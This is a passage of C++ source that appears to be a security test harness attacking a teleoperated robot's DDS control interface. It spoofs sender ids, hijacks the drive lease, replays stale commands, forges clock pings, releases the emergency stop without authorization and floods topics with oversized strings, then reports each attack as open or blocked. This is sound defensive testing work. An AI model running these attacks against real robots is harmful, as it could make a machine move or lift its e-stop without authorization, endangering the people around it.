                  << Matched(set.request) << "/" << Matched(set.estop) << "/" << Matched(set.ping);
        first = false;
      }
      std::cout << ")";
    }
    std::cout << std::endl;

    Eavesdrop();
    LeaseUnderAnotherPilotsId();
    Drive("arm_and_drive_forward", 0.3);
    Drive("reverse", -0.15);
    HijackLivePilot();
    ReplayStaleCommand();
    // Insiders in the live pilot's partition, while nothing has touched its clock offset.
    for (const Insider& in : Insiders()) InsiderLease(in);
    for (const Insider& in : Insiders()) InsiderDrive(in);
    ForgedClockPings();
    for (const Insider& in : Insiders()) InsiderStalePings(in);
    EstopReleaseWithoutTheHoldersIdentity();
    for (const Insider& in : Insiders()) InsiderEstopRelease(in);
    HugeStrings();
    DistinctIds();
    MalformedSamples();

    witness_.WaitFreshHealth();
    const bool alive = Alive(options_.robot_pid) || options_.robot_pid == 0;
    std::cout << "ROBOT alive=" << (alive ? "yes" : "no") << " health_age_s=" << std::fixed
              << std::setprecision(2) << witness_.HealthAgeS()
              << " rss_kb=" << RssKb(options_.robot_pid) << std::endl;
    return 0;
  }

 private:
  // Every client id some attack acts as (or as whose partition an insider writes).
  std::vector<std::string> ClaimedIds() const {
    std::vector<std::string> ids;
    for (const std::string& id : {options_.victim, options_.claim, Engager(), options_.pilot_cert,
                                  options_.observer_cert, options_.relay_cert}) {
      if (!id.empty() && std::find(ids.begin(), ids.end(), id) == ids.end()) ids.push_back(id);
    }
    return ids;
  }
  // The observer that engages the e-stop.
  std::string Engager() const {
    return options_.observer_cert.empty() ? "carol" : options_.observer_cert;
  }

  // Makes the attacking participants of `label` with certificate `cert`: a new attacker, or in
  // place of `*replace`.
  bool AddAttacker(const std::string& label, const std::string& cert, Attacker* replace = nullptr) {
    if (replace != nullptr) {
      replace->peer.reset();
      replace->raw_peer.reset();
    }
    Attacker a;
    a.peer = Peer::Create(options_.domain, label, options_.pki, cert, true);
    a.raw_peer = Peer::Create(options_.domain, label + "_raw", options_.pki, cert, true);
    if (!a.peer || !a.raw_peer) {
      std::cerr << "attacker: participant " << label << " could not be made\n";
      return false;
    }
    a.self = cert;
    a.primary = cert.empty() ? options_.victim : cert;
    for (const std::string& id : ClaimedIds()) MakeSet(a, id);
    if (!cert.empty()) MakeSet(a, cert);
    constexpr uint32_t kRawMax = 2u << 20;
    for (const auto& [topic, type] :
         std::vector<std::pair<const char*, const char*>>{{kCommand, kCommandType},
                                                          {kEstop, kEstopType},
                                                          {kRequest, kRequestType},
                                                          {kPing, kPingType}}) {
      const bool command = std::string(topic) == kCommand;
      fdds::DataWriterQos qos = command ? CommandWriterQos() : ControlWriterQos();
      qos.history().depth = 4;
      fdds::DataWriter* w = a.raw_peer->Writer(topic, fdds::TypeSupport(new RawType(type, kRawMax)),
                                               InPartition(qos, PartitionOf(a.primary)));
      if (w != nullptr) a.raw[topic] = w;
    }
    if (replace != nullptr) {
      *replace = std::move(a);
    } else {
      attackers_.push_back(std::move(a));
    }
    return true;
  }

  // An insider whose own e-stop writer (every credential may publish the e-stop in its own
  // partition) the robot has not matched did not authenticate: over Fast DDS 2.9 TCP a client
  // participant's connection sometimes delivers nothing from the start (docs/networking.md). It
  // joins again, twice at most, so that its rows are not blocked for want of a connection.
  void RejoinUnmatchedInsiders() {
    for (int round = 0; round < 2; ++round) {
      bool rejoined = false;
      for (Attacker& a : attackers_) {
        const WriterSet* own = a.self.empty() ? nullptr : a.Set(a.self);
        if (own == nullptr || own->estop == nullptr || Matched(own->estop) > 0) continue;
        const std::string label = a.peer->label();
        const std::string self = a.self;
        std::cerr << "attacker: the robot did not match " << label
                  << "'s own e-stop writer; it joins again\n";
        if (!AddAttacker(label, self, &a)) return;
        rejoined = true;
      }
      if (!rejoined) return;
      WaitMatchedWriters(10s);
    }
  }

  // The writers of `a` in the partition of client `id`. The participant without a certificate
  // and an insider in its own partition create them there; an insider in another client's
  // partition first tries that (its own access control refuses), then creates them in its own
  // partition and moves them.
  void MakeSet(Attacker& a, const std::string& id) {
    if (a.sets.count(id) != 0) return;
    WriterSet set;
    set.id = id;
    const std::string partition = PartitionOf(id);
    auto make = [&](fdds::Publisher* publisher, const std::string& in) {
      auto qos = [&](fdds::DataWriterQos q) { return in.empty() ? q : InPartition(q, in); };
      set.command = a.peer->Writer<msg::VelocityCommand_PubSubType>(
          kCommand, qos(CommandWriterQos()), publisher);
      set.request = a.peer->Writer<msg::ControlRequest_PubSubType>(
          kRequest, qos(ControlWriterQos()), publisher);
      set.estop =
          a.peer->Writer<msg::EmergencyStop_PubSubType>(kEstop, qos(ControlWriterQos()), publisher);
      set.ping =
          a.peer->Writer<msg::ClockProbe_PubSubType>(kPing, qos(ControlWriterQos()), publisher);
    };
    if (a.self.empty() || a.self == id) {
      set.how = a.self.empty() ? "claimed" : "own";
      make(nullptr, partition);
    } else {
      make(nullptr, partition);
      if (set.command != nullptr || set.request != nullptr || set.estop != nullptr ||
          set.ping != nullptr) {
        set.how = "direct";  // the local access control did not refuse
      } else {
        set.how = "moved";
        fdds::Publisher* publisher = a.peer->PublisherIn(PartitionOf(a.self));
        if (publisher != nullptr) {
          make(publisher, "");
          if (!Peer::MovePublisher(publisher, partition)) set.how = "move_failed";
        }
      }
    }
    a.sets[id] = set;
  }

  void WaitMatchedWriters(std::chrono::seconds timeout) {
    const auto deadline = Clock::now() + timeout;
    // Moved writers are not expected to match (with DDS Security the robot refuses them).
    auto all = [this] {
      for (const Attacker& a : attackers_) {
        for (const auto& [id, set] : a.sets) {
          if (set.how == "moved") continue;
          for (fdds::DataWriter* w : {set.command, set.request, set.estop, set.ping}) {
            if (w != nullptr && Matched(w) == 0) return false;
          }
        }
        for (const auto& [topic, w] : a.raw) {
          if (Matched(w) == 0) return false;
        }
      }
      return true;
    };
    while (!all() && Clock::now() < deadline) std::this_thread::sleep_for(100ms);
  }

  bool WaitForHolder(const std::string& id, std::chrono::seconds timeout) {
    const auto deadline = Clock::now() + timeout;
    while (witness_.Holder() != id && Clock::now() < deadline) std::this_thread::sleep_for(100ms);
    return witness_.Holder() == id;
  }

  // How `a` writes as each of `claimed`: without a certificate in that id's partition; an
  // insider in its own partition (sender_id the claimed id) and in the claimed id's partition.
  // `with_self`: an insider also writes as itself in its own partition.
  static std::vector<Route> Routes(const Attacker& a, const std::vector<std::string>& claimed,
                                   bool with_self = true) {
    std::vector<Route> routes;
    auto add = [&](const std::string& partition_id, const std::string& sender) {
      const WriterSet* set = a.Set(partition_id);
      if (set == nullptr) return;
      for (const Route& r : routes) {
        if (r.set == set && r.sender == sender) return;
      }
      routes.push_back({&a, set, sender});
    };
    for (const std::string& id : claimed) {
      if (a.self.empty()) {
        add(id, id);
      } else {
        add(a.self, id);
        add(id, id);
      }
    }
    if (with_self && !a.self.empty()) add(a.self, a.self);
    return routes;
  }
  std::vector<Route> AllRoutes(const std::vector<std::string>& claimed,
                               bool with_self = true) const {
    std::vector<Route> all;
    for (const Attacker& a : attackers_) {
      for (Route& r : Routes(a, claimed, with_self)) all.push_back(std::move(r));
    }
    return all;
  }
  // "anonymous:bob@bob[claimed] pilot:bob@mallory[own] pilot:bob@bob[moved] ...": who wrote
  // as whom in which partition, for the evidence.
  static std::string RoutesText(const std::vector<Route>& routes) {
    std::string out;
    for (const Route& r : routes) {
      out += (out.empty() ? "" : ",") + r.attacker->peer->label() + ":" + r.sender + "@" +
             r.set->Text();
    }
    return out;
  }

  void Report(const std::string& name, bool open, const std::string& evidence) {
    std::cout << "ATTACK name=" << name << " outcome=" << (open ? "open" : "blocked")
              << " evidence=\"" << evidence << "\"" << std::endl;
  }
  void ReportError(const std::string& name, const std::string& evidence) {
    std::cout << "ATTACK name=" << name << " outcome=error evidence=\"" << evidence << "\""
              << std::endl;
  }

  static void WriteCommand(fdds::DataWriter* w, const std::string& id, uint64_t sequence,
                           int64_t stamp_ns, double linear, double angular, bool enable) {
    if (w == nullptr) return;
    msg::VelocityCommand_ c;
    c.stamp(Stamp(stamp_ns));
    c.sequence_number(sequence);
    c.sender_id(id);
    c.linear_mps(linear);
    c.angular_radps(angular);
    c.enable(enable);
    w->write(&c);
  }
  static void WriteRequest(fdds::DataWriter* w, const std::string& id, bool take) {
    if (w == nullptr) return;
    msg::ControlRequest_ r;
    r.stamp(Stamp(WallNowNs()));
    r.sender_id(id);
    r.strength(1'000'000);
    r.take(take);
    w->write(&r);
  }
  static void WriteEstop(fdds::DataWriter* w, const std::string& id, bool engage) {
    if (w == nullptr) return;
    msg::EmergencyStop_ e;
    e.stamp(Stamp(WallNowNs()));
    e.sender_id(id);
    e.engage(engage);
    w->write(&e);
  }

  // Sends drive commands under `ids` for `duration`: 10 with enable=false (arming), then
  // enable=true at `linear`; stamps from `stamp_of` (default now). Take requests as `take_as`
  // every 250 ms when given.
  void DriveFor(std::chrono::milliseconds duration, const std::vector<std::string>& claimed,
                double linear, uint64_t first_sequence, const std::string& take_as,
                std::function<int64_t()> stamp_of = WallNowNs,
                std::function<void()> each_tick = nullptr) {
    const auto end = Clock::now() + duration;
    uint64_t sequence = first_sequence;
    for (int tick = 0; Clock::now() < end; ++tick) {
      const bool enable = tick >= 10;
      if (!take_as.empty() && tick % 5 == 0) {
        for (const Route& r : AllRoutes({take_as})) WriteRequest(r.set->request, r.sender, true);
      }
      for (const Route& r : AllRoutes(claimed)) {
        WriteCommand(r.set->command, r.sender, sequence, stamp_of(), enable ? linear : 0, 0,
                     enable);
      }
      if (each_tick) each_tick();
      ++sequence;
      std::this_thread::sleep_for(50ms);
    }
    // Stop cleanly (what a pilot letting go of the keys sends).
    for (int i = 0; i < 5; ++i) {
      for (const Route& r : AllRoutes(claimed)) {
        WriteCommand(r.set->command, r.sender, sequence, stamp_of(), 0, 0, false);
      }
      ++sequence;
      std::this_thread::sleep_for(50ms);
    }
  }

  std::string Motion() const {
    std::ostringstream out;
    out << std::fixed << std::setprecision(3) << "odom_max_linear=" << witness_.MaxLinear()
        << " odom_min_linear=" << witness_.MinLinear();
    return out.str();
  }
  bool Moved() const {
    return witness_.MaxLinear() > kMovedMps || witness_.MinLinear() < -kMovedMps;
  }
  std::string Counters(const std::vector<std::string>& names) const {
    std::string out;
    for (const std::string& n : names) {
      const auto dot = n.find('.');
      out += " " + n.substr(dot + 1) + "=" +
             std::to_string(witness_.Counter(n.substr(0, dot), n.substr(dot + 1)));
    }
    return out;
  }

  // 1. Read video, scans, health, odometry and the pilot's commands without any certificate.
  void Eavesdrop() {
    std::this_thread::sleep_for(3s);
    std::lock_guard<std::mutex> lock(mutex_);
    replay_source_ = captured_;  // replayed much later (attack 6)
    const int heard = heard_video_ + heard_scan_ + heard_health_ + heard_odom_ + heard_commands_;
    Report("eavesdrop", heard > 0,
           "video=" + std::to_string(heard_video_) + " scan=" + std::to_string(heard_scan_) +
               " health=" + std::to_string(heard_health_) + " odom=" + std::to_string(heard_odom_) +
               " cmd_vel=" + std::to_string(heard_commands_));
  }

  // 2. Take the lease as a stronger pilot of the role table, with no certificate for it.
  void LeaseUnderAnotherPilotsId() {
    witness_.ResetWindowWhenStill();
    const uint64_t before = witness_.LeaseSequence();
    for (int i = 0; i < 20; ++i) {
      for (const Route& r : AllRoutes({options_.claim})) {
        WriteRequest(r.set->request, r.sender, true);
      }
      std::this_thread::sleep_for(100ms);
    }
    witness_.WaitFreshHealth();
    Report("lease_as_another_pilot", witness_.EverHeld(options_.claim),
           "as=" + RoutesText(AllRoutes({options_.claim})) + " holder=" + witness_.Holder() +
               " lease_sequence=" + std::to_string(before) + "->" +
               std::to_string(witness_.LeaseSequence()) +
               Counters({"network.dropped_control_request", "network.sender_mismatch_dropped"}));
  }

  // 3./4. Arm and drive under the claimed id (taking the lease as it goes).
  void Drive(const std::string& name, double linear) {
    witness_.ResetWindowWhenStill();
    const uint64_t first = 100'000 + static_cast<uint64_t>(++drives_) * 10'000;
    DriveFor(3500ms, {options_.claim}, linear, first, options_.claim);
    std::this_thread::sleep_for(300ms);
    Report(name, linear > 0 ? witness_.MaxLinear() > kMovedMps : witness_.MinLinear() < -kMovedMps,
           Motion() + " holder=" + witness_.Holder() +
               Counters({"network.dropped_cmd_vel", "drive_safety.rejected_not_holder"}));
  }

  // 5. Hijack the live pilot: an exclusive writer of the highest strength, take requests, and
  // commands under the pilot's own id with higher sequence numbers.
  void HijackLivePilot() {
    // The claimed lease (if the robot granted it) lapses once the attacker falls silent.
    if (!WaitForHolder(options_.victim, 15s)) {
      ReportError("hijack_live_pilot",
                  "the victim did not get the lease back: holder=" + witness_.Holder());
      return;
    }
    witness_.ResetWindowWhenStill();
    std::vector<std::pair<Peer*, fdds::DataWriter*>> exclusive;
    for (const Attacker& a : attackers_) {
      fdds::DataWriterQos qos = CommandWriterQos();
      qos.ownership().kind = fdds::EXCLUSIVE_OWNERSHIP_QOS;
      qos.ownership_strength().value = 1'000'000;
      exclusive.emplace_back(a.peer.get(), a.peer->Writer<msg::VelocityCommand_PubSubType>(
                                               kCommand, InPartition(qos, PartitionOf(a.primary))));
    }
    uint64_t sequence = 1'000'000;
    const auto end = Clock::now() + 4s;
    for (int tick = 0; Clock::now() < end; ++tick) {
      const bool enable = tick >= 10;
      if (tick % 5 == 0) {
        for (const Route& r : AllRoutes({options_.victim})) {
          WriteRequest(r.set->request, r.sender, true);
        }
      }
      for (const Route& r : AllRoutes({options_.victim})) {
        WriteCommand(r.set->command, r.sender, sequence, WallNowNs(), enable ? 0.3 : 0, 0, enable);
      }
      for (const auto& [peer, writer] : exclusive) {
        WriteCommand(writer, options_.victim, sequence, WallNowNs(), enable ? 0.3 : 0, 0, enable);
      }
      ++sequence;
      std::this_thread::sleep_for(50ms);
    }
    size_t exclusive_matched = 0;
    for (const auto& [peer, writer] : exclusive) {
      exclusive_matched += Matched(writer);
      WriteCommand(writer, options_.victim, sequence, WallNowNs(), 0, 0, false);
    }
    for (const Route& r : AllRoutes({options_.victim}, false)) {
      WriteCommand(r.set->command, r.sender, sequence + 1, WallNowNs(), 0, 0, false);
    }
    std::this_thread::sleep_for(300ms);
    for (const auto& [peer, writer] : exclusive) peer->Delete(writer);
    Report("hijack_live_pilot", Moved() || witness_.Holder() != options_.victim,
           Motion() + " as=" + RoutesText(AllRoutes({options_.victim})) +
               " holder=" + witness_.Holder() +
               " exclusive_writer_matched=" + std::to_string(exclusive_matched) +
               Counters({"network.dropped_cmd_vel", "drive_safety.rejected_out_of_order"}));
  }

  // 6. Replay a command of the pilot seen earlier (or, when none could be read, one stamped
  // 3 s ago) with higher sequence numbers, as a drive.
  void ReplayStaleCommand() {
    witness_.ResetWindowWhenStill();
    std::this_thread::sleep_for(500ms);
    int64_t stamp;
    std::string source;
    {
      std::lock_guard<std::mutex> lock(mutex_);
      if (replay_source_) {
        stamp = Nanos(replay_source_->stamp());
        source = "captured_sequence=" + std::to_string(replay_source_->sequence_number());
      } else {
        stamp = WallNowNs() - 3'000'000'000;
        source = "none_captured_made_one_3s_old";
      }
    }
    const int64_t stale_before = witness_.Counter("drive_safety", "rejected_stale");
    int64_t offset_ns = 0;
    DriveFor(2500ms, {options_.victim}, 0.3, 2'000'000, "",
             [&] { return stamp + (offset_ns += 1000); });
    witness_.WaitFreshHealth();
    std::ostringstream age;
    age << std::fixed << std::setprecision(1) << (WallNowNs() - stamp) / 1e9;
    Report("replay_stale_command", Moved(),
           Motion() + " replayed=" + source + " age_s=" + age.str() +
               " rejected_stale=" + std::to_string(stale_before) + "->" +
               std::to_string(witness_.Counter("drive_safety", "rejected_stale")) +
               Counters({"network.dropped_cmd_vel"}));
  }

  // 7. Clock pings under the pilot's id that make its clock look 5 s behind the robot's, then
  // commands stamped 5 s ago: with the poisoned offset they would look fresh.
  void ForgedClockPings() {
    witness_.ResetWindowWhenStill();
    constexpr int64_t kShiftNs = 5'000'000'000;
    uint64_t sequence = 5'000'000;
    int64_t last_t0 = 0;
    auto ping = [&] {
      // t3 for the previous ping: its t0 plus the robot's own hold time (when the pong was
      // read), so the exchange shows the smallest round trip of all and wins the estimate.
      int64_t t3 = 0;
      {
        std::lock_guard<std::mutex> lock(mutex_);
        auto it = pongs_.find(sequence - 1);
        if (it != pongs_.end()) {
          t3 = last_t0 + (Nanos(it->second.t2()) - Nanos(it->second.t1())) + 10'000;
        } else if (last_t0 != 0) {
          t3 = last_t0 + 200'000;
        }
      }
      msg::ClockProbe_ p;
      p.sequence_number(sequence);
      last_t0 = WallNowNs() - kShiftNs;
      p.t0(Stamp(last_t0));
      p.t3(Stamp(t3));
      for (const Route& r : AllRoutes({options_.victim})) {
        if (r.set->ping == nullptr) continue;
        p.sender_id(r.sender);
        r.set->ping->write(&p);
      }
      ++sequence;
    };
    const int64_t dropped_before = witness_.Counter("network", "dropped_clock_ping");
    for (int i = 0; i < 150; ++i) {
      ping();
      std::this_thread::sleep_for(20ms);
    }
    const int64_t stale_before = witness_.Counter("drive_safety", "rejected_stale");
    DriveFor(
        3000ms, {options_.victim}, 0.3, 3'000'000, "", [&] { return WallNowNs() - kShiftNs; },
        ping);
    witness_.WaitFreshHealth();
    Report("forged_clock_pings", Moved(),
           Motion() + " pings_as=" + RoutesText(AllRoutes({options_.victim})) +
               " shift_s=5 dropped_clock_ping=" + std::to_string(dropped_before) + "->" +
               std::to_string(witness_.Counter("network", "dropped_clock_ping")) +
               " rejected_stale=" + std::to_string(stale_before) + "->" +
               std::to_string(witness_.Counter("drive_safety", "rejected_stale")));
  }

  // 8. An observer engages the e-stop (which it may); then everyone tries to release it: as
  // itself, as the lease holder (and the victim, should the lease be changing hands), as the
  // claimed pilot.
  void EstopReleaseWithoutTheHoldersIdentity() {
    const std::string engager =
        options_.observer_cert.empty() || options_.pki.empty() ? "carol" : options_.observer_cert;
    for (int i = 0; i < 10 && !witness_.Estop(); ++i) {
      for (const Route& r : AllRoutes({engager}, false)) WriteEstop(r.set->estop, r.sender, true);
      std::this_thread::sleep_for(200ms);
    }
    witness_.WaitFreshHealth();
    if (!witness_.Estop()) {
      ReportError("estop_release_as_observer", "could not engage the e-stop as " + engager);
      return;
    }
    const int64_t refused_before = witness_.Counter("drive_safety", "estop_refused");
    const std::string holder = witness_.Holder();
    for (int i = 0; i < 10; ++i) {
      for (const Route& r : AllRoutes({engager, holder, options_.victim, options_.claim})) {
        WriteEstop(r.set->estop, r.sender, false);
      }
      std::this_thread::sleep_for(200ms);
    }
    witness_.WaitFreshHealth();
    Report("estop_release_as_observer", !witness_.Estop(),
           "engaged_by=" + engager + " released_as=" +
               RoutesText(AllRoutes({engager, holder, options_.victim, options_.claim})) +
               " estop_engaged=" + (witness_.Estop() ? "1" : "0") +
               " estop_refused=" + std::to_string(refused_before) + "->" +
               std::to_string(witness_.Counter("drive_safety", "estop_refused")) +
               Counters({"network.dropped_estop"}));
  }

  // The insiders: a credential and the id it is (with --pki the pilot, observer and relay
  // certificates; without, the participant without a certificate plays them under their ids).
  struct Insider {
    std::string role;  // "pilot", "observer" or "relay": the rows insider_<role>_*
    std::string self;
    const Attacker* attacker;
  };
  std::vector<Insider> Insiders() const {
    std::vector<Insider> out;
    for (const auto& [role, id] :
         {std::pair<std::string, std::string>{"pilot", options_.pilot_cert},
          {"observer", options_.observer_cert},
          {"relay", options_.relay_cert}}) {
      if (id.empty()) continue;
      const Attacker* found = &attackers_.front();
      for (const Attacker& a : attackers_) {
        if (a.self == id) found = &a;
      }
      out.push_back({role, id, found});
    }
    return out;
  }
  // Where an insider acts as the victim: its own partition (sender_id the victim's), then the
  // victim's partition.
  std::vector<const WriterSet*> InsiderSets(const Insider& in) const {
    return {in.attacker->Set(in.self), in.attacker->Set(options_.victim)};
  }
  int64_t Delta(const std::string& counter, int64_t before) const {
    const auto dot = counter.find('.');
    return witness_.Counter(counter.substr(0, dot), counter.substr(dot + 1)) - before;
  }
  int64_t CounterOf(const std::string& counter) const {
    const auto dot = counter.find('.');
    return witness_.Counter(counter.substr(0, dot), counter.substr(dot + 1));
  }
  // " dropped_estop=+3 sender_mismatch_dropped=+3" since `before` (CounterOf values).
  std::string Deltas(const std::vector<std::string>& names,
                     const std::vector<int64_t>& before) const {
    std::string out;
    for (size_t i = 0; i < names.size(); ++i) {
      out += " " + names[i].substr(names[i].find('.') + 1) + "=+" +
             std::to_string(Delta(names[i], before[i]));
    }
    return out;
  }
  std::vector<int64_t> Snapshot(const std::vector<std::string>& names) const {
    std::vector<int64_t> out;
    for (const std::string& n : names) out.push_back(CounterOf(n));
    return out;
  }
  // ",route=no_writer" when `writer` is null: the insider's own permissions refuse the topic in
  // that partition (or anywhere), so nothing of that route reaches the wire: blocked.
  static std::string NoWriter(const fdds::DataWriter* writer) {
    return writer == nullptr ? ",route=no_writer" : "";
  }
  static std::string Joined(const std::vector<std::string>& items) {
    std::string out;
    for (const std::string& i : items) out += (out.empty() ? "" : ",") + i;
    return out.empty() ? "-" : out;
  }

  // 12. An insider releases the victim's lease under its id and takes it as itself.
  void InsiderLease(const Insider& in) {
    const std::string name = "insider_" + in.role + "_lease";
    const std::vector<std::string> counters = {"network.dropped_control_request",
                                               "network.sender_mismatch_dropped"};
    bool open = false;
    std::string evidence = "by=" + in.self;
    const WriterSet* own = in.attacker->Set(in.self);
    for (const WriterSet* set : InsiderSets(in)) {
      if (set == nullptr) continue;
      if (!WaitForHolder(options_.victim, 10s)) {
        ReportError(name, "the victim did not get the lease back: holder=" + witness_.Holder());
        return;
      }
      witness_.ResetWindow();
      const uint64_t sequence_before = witness_.LeaseSequence();
      const std::vector<int64_t> before = Snapshot(counters);
      for (int i = 0; i < 15; ++i) {
        WriteRequest(set->request, options_.victim, false);
        if (own != nullptr) WriteRequest(own->request, in.self, true);
        std::this_thread::sleep_for(100ms);
      }
      std::this_thread::sleep_for(300ms);
      witness_.WaitFreshHealth();
      const std::vector<std::string> others = witness_.HoldersOtherThan(options_.victim);
      open = open || !others.empty();
      evidence += " in=" + set->Text() + ":release_as=" + options_.victim + NoWriter(set->request) +
                  ",lease_sequence=" + std::to_string(sequence_before) + "->" +
                  std::to_string(witness_.LeaseSequence()) + ",other_holders=" + Joined(others) +
                  Deltas(counters, before);
    }
    Report(name, open, evidence);
  }

  // 13. An insider arms and drives (in reverse, which the laser does not limit) under the
  // victim's id while the victim holds the lease.
  void InsiderDrive(const Insider& in) {
    const std::string name = "insider_" + in.role + "_drive";
    const std::vector<std::string> counters = {"network.dropped_cmd_vel",
                                               "network.sender_mismatch_dropped",
                                               "drive_safety.rejected_not_holder"};
    bool open = false;
    std::string evidence = "by=" + in.self;
    for (const WriterSet* set : InsiderSets(in)) {
      if (set == nullptr) continue;
      if (!WaitForHolder(options_.victim, 10s)) {
        ReportError(name, "the victim did not get the lease back: holder=" + witness_.Holder());
        return;
      }
      witness_.ResetWindowWhenStill();
      const std::vector<int64_t> before = Snapshot(counters);
      uint64_t sequence = 4'000'000 + static_cast<uint64_t>(++insider_drives_) * 10'000;
      const auto end = Clock::now() + 2500ms;
      for (int tick = 0; Clock::now() < end; ++tick) {
        const bool enable = tick >= 10;
        if (tick % 5 == 0) WriteRequest(set->request, options_.victim, true);
        WriteCommand(set->command, options_.victim, sequence++, WallNowNs(), enable ? -0.15 : 0, 0,
                     enable);
        std::this_thread::sleep_for(50ms);
      }
      for (int i = 0; i < 5; ++i) {
        WriteCommand(set->command, options_.victim, sequence++, WallNowNs(), 0, 0, false);
        std::this_thread::sleep_for(50ms);
      }
      std::this_thread::sleep_for(300ms);
      witness_.WaitFreshHealth();
      open = open || Moved();
      std::ostringstream min;
      min << std::fixed << std::setprecision(3) << witness_.MinLinear();
      evidence += " in=" + set->Text() + ":as=" + options_.victim + NoWriter(set->command) +
                  ",odom_min_linear=" + min.str() + ",holder=" + witness_.Holder() +
                  Deltas(counters, before);
    }
    Report(name, open, evidence);
  }

  // While the victim's commands are refused as stale (its clock offset poisoned by an attack
  // that worked), has the lease released under its id and waits until it takes it again: the
  // robot forgets a holder's clock offset when the lease changes hands. Only what already worked
  // can be undone this way. Returns how often it released.
  int ResetVictimClock() {
    int resets = 0;
    for (int attempt = 0; attempt < 3; ++attempt) {
      const int64_t before = witness_.Counter("drive_safety", "rejected_stale");
      std::this_thread::sleep_for(1s);
      witness_.WaitFreshHealth();
      if (witness_.Counter("drive_safety", "rejected_stale") - before < 5) return resets;
      ++resets;
      for (int i = 0; i < 3; ++i) {
        for (const Route& r : AllRoutes({options_.victim}, false)) {
          WriteRequest(r.set->request, r.sender, false);
        }
        std::this_thread::sleep_for(100ms);
      }
      WaitForHolder(options_.victim, 5s);
    }
    return resets;
  }

  // 14. An insider sends clock pings under the victim's id that make the victim's clock look
  // 5 s ahead of the robot's: the victim's own (idle) commands would then look 5 s old and be
  // refused as stale.
  void InsiderStalePings(const Insider& in) {
    const std::string name = "insider_" + in.role + "_stale_pings";
    const std::vector<std::string> counters = {"network.dropped_clock_ping",
                                               "network.sender_mismatch_dropped"};
    constexpr int64_t kAheadNs = 5'000'000'000;
    int resets = ResetVictimClock();
    const int64_t base_before = witness_.Counter("drive_safety", "rejected_stale");
    std::this_thread::sleep_for(2s);
    witness_.WaitFreshHealth();
    const int64_t baseline = witness_.Counter("drive_safety", "rejected_stale") - base_before;
    bool open = false;
    std::string evidence =
        "by=" + in.self + " victim_commands_stale_baseline=+" + std::to_string(baseline);
    for (const WriterSet* set : InsiderSets(in)) {
      if (set == nullptr) continue;
      const std::vector<int64_t> before = Snapshot(counters);
      const int64_t stale_before = witness_.Counter("drive_safety", "rejected_stale");
      uint64_t sequence = 6'000'000 + static_cast<uint64_t>(++insider_pings_) * 10'000;
      int64_t last_t0 = 0;
      for (int i = 0; i < 100; ++i) {
        // t3 as in attack 7: the smallest round trip of all, so the exchange wins.
        int64_t t3 = 0;
        {
          std::lock_guard<std::mutex> lock(mutex_);
          auto it = pongs_.find(sequence - 1);
          if (it != pongs_.end()) {
            t3 = last_t0 + (Nanos(it->second.t2()) - Nanos(it->second.t1())) + 10'000;
          } else if (last_t0 != 0) {
            t3 = last_t0 + 200'000;
          }
        }
        msg::ClockProbe_ p;
        p.sender_id(options_.victim);
        p.sequence_number(sequence++);
        last_t0 = WallNowNs() + kAheadNs;
        p.t0(Stamp(last_t0));
        p.t3(Stamp(t3));
        if (set->ping != nullptr) set->ping->write(&p);
        std::this_thread::sleep_for(20ms);
      }
      witness_.WaitFreshHealth();
      const int64_t stale = witness_.Counter("drive_safety", "rejected_stale") - stale_before;
      const bool poisoned = stale >= 20 && stale > 2 * baseline + 10;
      open = open || poisoned;
      evidence += " in=" + set->Text() + ":pings_as=" + options_.victim + NoWriter(set->ping) +
                  ",victim_commands_stale=+" + std::to_string(stale) + Deltas(counters, before);
      if (poisoned) resets += ResetVictimClock();
    }
    Report(name, open, evidence + " victim_clock_resets=" + std::to_string(resets));
  }

  // 15. The observer engages the e-stop in its own partition (which it may); an insider then
  // releases it under the victim's id, the lease holder's.
  void InsiderEstopRelease(const Insider& in) {
    const std::string name = "insider_" + in.role + "_estop_release";
    const std::vector<std::string> counters = {
        "network.dropped_estop", "network.sender_mismatch_dropped", "drive_safety.estop_refused"};
    bool open = false;
    std::string evidence = "by=" + in.self + " engaged_by=" + Engager();
    for (const WriterSet* set : InsiderSets(in)) {
      if (set == nullptr) continue;
      if (!WaitForHolder(options_.victim, 10s)) {
        ReportError(name, "the victim does not hold the lease: holder=" + witness_.Holder());
        return;
      }
      for (int i = 0; i < 10 && !witness_.Estop(); ++i) {
        for (const Route& r : AllRoutes({Engager()}, false)) {
          WriteEstop(r.set->estop, r.sender, true);
        }
        std::this_thread::sleep_for(200ms);
      }
      witness_.WaitFreshHealth();
      if (!witness_.Estop()) {
        ReportError(name, "could not engage the e-stop as " + Engager());
        return;
      }
      const std::vector<int64_t> before = Snapshot(counters);
      for (int i = 0; i < 8; ++i) {
        WriteEstop(set->estop, options_.victim, false);
        std::this_thread::sleep_for(200ms);
      }
      witness_.WaitFreshHealth();
      const bool released = !witness_.Estop();
      open = open || released;
      evidence += " in=" + set->Text() + ":release_as=" + options_.victim + NoWriter(set->estop) +
                  ",holder=" + witness_.Holder() + ",estop_engaged=" + (released ? "0" : "1") +
                  Deltas(counters, before);
    }
    Report(name, open, evidence);
  }

  bool RobotFine(std::string* evidence) const {
    const bool alive = options_.robot_pid == 0 || Alive(options_.robot_pid);
    std::ostringstream out;
    out << "robot_alive=" << (alive ? 1 : 0) << " health_age_s=" << std::fixed
        << std::setprecision(2) << witness_.HealthAgeS();
    *evidence += out.str();
    return alive && witness_.HealthAgeS() < 2.0;
  }

  void WriteRaw(const char* topic, const std::vector<uint8_t>& bytes) {
    for (Attacker& a : attackers_) {
      auto it = a.raw.find(topic);
      if (it == a.raw.end()) continue;
      std::vector<uint8_t> copy = bytes;
      it->second->write(&copy);
    }
  }

  // 9. Samples whose sender_id is 1 MB long, on every topic the robot reads.
  void HugeStrings() {
    const int64_t rss_before = RssKb(options_.robot_pid);
    const std::string huge(1 << 20, 'A');
    const std::string holder = witness_.Holder();
    for (int i = 0; i < 3; ++i) {
      const int64_t now = WallNowNs();
      WriteRaw(kCommand, CdrBytes()
                             .Time(now)
                             .U64(9'000'000 + static_cast<uint64_t>(i))
                             .String(huge)
                             .F64(0.3)
                             .F64(0)
                             .Bool(true)
                             .Take());
      WriteRaw(kEstop, CdrBytes().Time(now).String(huge).Bool(false).Take());
      WriteRaw(kRequest, CdrBytes().Time(now).String(huge).I32(1'000'000).Bool(true).Take());
      WriteRaw(kPing, CdrBytes().String(huge).U64(1).Time(now).Time(0).Time(0).Time(0).Take());
      std::this_thread::sleep_for(500ms);
    }
    std::this_thread::sleep_for(1s);
    witness_.WaitFreshHealth();
    const int64_t rss_after = RssKb(options_.robot_pid);
    std::string evidence = "rss_kb=" + std::to_string(rss_before) + "->" +
